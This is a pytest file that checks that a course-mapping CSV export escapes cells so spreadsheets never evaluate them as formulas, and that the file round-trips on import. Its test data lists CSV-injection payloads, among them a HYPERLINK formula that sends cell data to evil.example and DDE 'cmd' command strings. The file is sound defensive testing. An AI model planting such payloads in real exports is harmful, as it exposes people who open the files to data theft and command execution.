"""A course mapping exported as CSV opens in a spreadsheet without any cell being evaluated as a
formula (OWASP, CSV Injection), and imports back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from engine.course_mapping_csv import FORMULA_STARTS, format_mapping_csv, parse_mapping_csv
from engine.enrollment import CourseMapping
from persistence.models import CourseMappingRow

# Resources a catalog may grant that a spreadsheet would evaluate, and one that starts with the
# text mark itself (it must survive the round trip too).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "  =1+1",  # spaces first: some spreadsheets skip them
]


def mapping(resource: str, course_run_id: str = "course-v1:Org+Course+Run") -> CourseMapping:
    return CourseMapping(resource, course_run_id, "professional", True, None, "audit")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("resource", HOSTILE)
def test_no_exported_cell_starts_a_formula_and_the_file_imports_back_unchanged(resource):
    exported = format_mapping_csv([mapping(resource), mapping("course:plain", "-org/course/run")])
    for cell in cells(exported):
        assert not cell.startswith(FORMULA_STARTS) and not cell.lstrip(" ").startswith(FORMULA_STARTS), cell
    imported = {row.mapping for row in parse_mapping_csv(exported)}
    if resource.strip() == resource:  # import strips the spaces around a cell, as it always has
        assert imported == {mapping(resource), mapping("course:plain", "-org/course/run")}
    assert "'-org/course/run" in exported


def test_a_leading_apostrophe_typed_by_hand_is_the_text_mark(tmp_path):
    rows = parse_mapping_csv("resource,course_run_id,mode\n'@team,'-org/course/run,professional\n")
    assert [(r.mapping.resource, r.mapping.course_run_id) for r in rows] == [("@team", "-org/course/run")]


def test_the_cli_export_of_a_hostile_resource_round_trips(app, runtime, settings, tmp_path):
    from web.app import create_app

    catalog = tmp_path / "catalog.toml"
    catalog.write_text(
        '[products.evil]\nstore_ids = ["evil"]\nkind = "non_consumable"\n'
        'grants = [{ resource = "=cmd|\' /C calc\'!A0", mode = "paid", policy = "lifetime" }]\n'
    )
    cli = create_app(settings.with_(catalog_path=catalog)).test_cli_runner()
    with runtime.session_factory() as session, session.begin():
        session.add(
            CourseMappingRow(
                resource="=cmd|' /C calc'!A0",
                course_run_id="course-v1:Org+Course+Run",
                mode="professional",
                active=True,
                expires_ms=None,
                on_revoke="audit",
                expiry_enqueued=False,
                updated_ms=0,
            )
        )
    out = tmp_path / "mappings.csv"
    assert cli.invoke(args=["course-mappings", "export", str(out)]).exit_code == 0
    assert cells(out.read_text())[6] == "'=cmd|' /C calc'!A0"
    result = cli.invoke(args=["course-mappings", "import", str(out)])
    assert result.exit_code == 0 and "0 created, 0 updated, 0 deleted, 1 unchanged" in result.stdout
    with runtime.session_factory() as session:
        assert session.scalars(select(CourseMappingRow.resource)).all() == ["=cmd|' /C calc'!A0"]
